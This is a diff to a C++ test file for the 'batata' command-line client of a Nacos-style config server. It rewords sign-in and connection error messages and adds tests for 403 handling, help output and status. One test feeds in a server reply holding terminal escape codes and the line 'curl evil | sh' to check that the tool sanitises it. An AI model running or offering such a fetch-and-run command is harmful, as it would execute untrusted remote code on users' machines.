@@ -145,9 +145,8 @@ TEST(Run, RefusalExitsWithFive) {
   const Ran ran = run_against(server, {"config", "delete", "a"});
   EXPECT_EQ(ran.code, 5);
   EXPECT_EQ(ran.error,
-            "batata: the server answered 403: no\n"
-            "next: sign in with BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN, as somebody who may do "
-            "this\n");
+            "batata: nobody has signed in: the server answered 403: no\n"
+            "next: sign in: set both BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n");
 }
 
 TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
@@ -157,7 +156,8 @@ TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
                            "31m")}});
   const Ran ran = run_against(server, {"config", "get", "a"});
   EXPECT_TRUE(ran.error.starts_with(
-      "batata: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: sign in"))
+      "batata: nobody has signed in: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: "
+      "sign in"))
       << ran.error;
   TinyServer long_winded({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
                            http(403, std::string(499, 'x') + "\xe9\x85\x8d")}});
@@ -204,13 +204,74 @@ TEST(Run, ATokenNeedsNoSigningIn) {
   EXPECT_NE(server.requests[0].find("\r\naccessToken: t0k3n\r\n"), std::string::npos) << server.requests[0];
 }
 
-TEST(Run, AWrongPasswordIsSaidAndExitsWithFive) {
-  TinyServer server({{"POST /nacos/v1/auth/login", http(403, "unknown user!")}});
-  const Ran ran = run_against(server, {"config", "delete", "a"},
-                              {.environment = {"BATATA_USERNAME=nacos", "BATATA_PASSWORD=wrong"}});
-  EXPECT_EQ(ran.code, 5);
-  EXPECT_NE(ran.error.find("sign in as nacos: the server answered 403: unknown user!"), std::string::npos)
-      << ran.error;
+TEST(Run, WhoIsNotLetInIsToldWhyAndExitsWithFive) {
+  const auto framework = [](const std::string& message) {
+    return http(403, R"({"timestamp":"t","status":403,"error":"Forbidden","message":")" + message +
+                         R"(","path":"/nacos/v1/cs/configs"})");
+  };
+  struct Case {
+    std::vector<std::string> environment;
+    std::string sign_in, answer, error;
+  };
+  const Case table[] = {
+      {{},
+       "",
+       framework("user not found!"),
+       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
+       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
+      {{"BATATA_PASSWORD=pw"},
+       "",
+       framework("user not found!"),
+       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
+       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
+      {{"BATATA_USERNAME=nacos", "BATATA_PASSWORD=wrong"},
+       http(403, "user not found!"),
+       "",
+       "batata: sign in as nacos: the name or the password is wrong: the server answered 403: user not "
+       "found!\nnext: check BATATA_USERNAME and BATATA_PASSWORD; a new server has no user until its first "
+       "one "
+       "is made\n"},
+      {{"BATATA_TOKEN=old"},
+       "",
+       framework("token expired!"),
+       "batata: the server answered 403: token expired!\nnext: the token in BATATA_TOKEN has ended, or is "
+       "another server's: get a new one, or set BATATA_USERNAME and BATATA_PASSWORD instead of it\n"},
+      {{"BATATA_USERNAME=app", "BATATA_PASSWORD=pw"},
+       http(200, R"({"accessToken":"t"})"),
+       framework("authorization failed!"),
+       "batata: the server answered 403: authorization failed!\nnext: sign in as somebody who may do "
+       "this\n"}};
+  for (const Case& each : table) {
+    TinyServer server({{"POST /nacos/v1/auth/login", each.sign_in},
+                       {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", each.answer}});
+    const Ran ran = run_against(server, {"config", "delete", "a"}, {.environment = each.environment});
+    EXPECT_EQ(ran.code, 5);
+    EXPECT_EQ(ran.error, each.error);
+  }
+}
+
+TEST(Run, ExplainsEachCommandInEachWayOfAsking) {
+  const std::vector<std::vector<std::string>> commands{
+      {}, {"status"}, {"config"}, {"config", "get"}, {"tls", "ca", "create"}, {"server"}};
+  for (const auto& command : commands) {
+    std::vector<std::string> asked{"help"}, flagged = command, brief = command;
+    asked.insert(asked.end(), command.begin(), command.end());
+    flagged.emplace_back("--help");
+    brief.emplace_back("-h");
+    const Ran help = run_words(asked);
+    EXPECT_EQ(help.code, 0) << help.error;
+    EXPECT_NE(help.out, "");
+    EXPECT_EQ(run_words(flagged).out, help.out);
+    EXPECT_EQ(run_words(brief).out, help.out);
+  }
+  EXPECT_NE(run_words({"help", "config", "get"}).out.find("batata config get"), std::string::npos);
+  EXPECT_NE(run_words({"help"}).out.find("help "), std::string::npos) << "among the commands";
+  for (const auto& words : std::vector<std::vector<std::string>>{
+           {"help", "nothing"}, {"nothing", "--help"}, {"help", "config", "nothing"}}) {
+    const Ran unknown = run_words(words);
+    EXPECT_EQ(unknown.code, 2) << words.back();
+    EXPECT_NE(unknown.error.find("no command 'nothing'"), std::string::npos) << unknown.error;
+  }
 }
 
 TEST(Run, ASignInThatFailsLeavesNothingToLookFor) {
@@ -244,14 +305,22 @@ TEST(Run, ServerThatIsNotThereOrBreaksOffExitsWithOne) {
   EXPECT_EQ(nobody.code, 1);
   EXPECT_EQ(nobody.error,
             "batata: cannot reach " + address +
-                ": Connection refused\nnext: start a server with `batata server`, or name another with "
-                "--server HOST:PORT\n");
+                ": Connection refused\nnext: start a server with `batata server` (one that has begun to "
+                "start answers when it has read its data), or name another with --server HOST:PORT\n");
   TinyServer breaks({{"POST /nacos/v1/cs/configs", ""}});
   const Ran broken = run_against(breaks, {"config", "set", "a", "1"});
   EXPECT_EQ(broken.code, 1);
   EXPECT_NE(broken.error.find("broke before the answer was complete"), std::string::npos) << broken.error;
   EXPECT_NE(broken.error.find("next: look with `batata config get` before trying again\n"),
             std::string::npos);
+}
+
+TEST(Run, StatusOfWhatSpeaksSomethingElseDoesNotSpeakOfWrites) {
+  TinyServer breaks({{"GET /nacos/v1/console/server/state", ""}});
+  const Ran ran = run_against(breaks, {"status"});
+  EXPECT_EQ(ran.code, 1);
+  EXPECT_TRUE(ran.error.ends_with("next: check --server: what listens there may be something else\n"))
+      << ran.error;
 }
 
 TEST(Run, ConfigDeleteSaysWhatIsTrueAfterwards) {
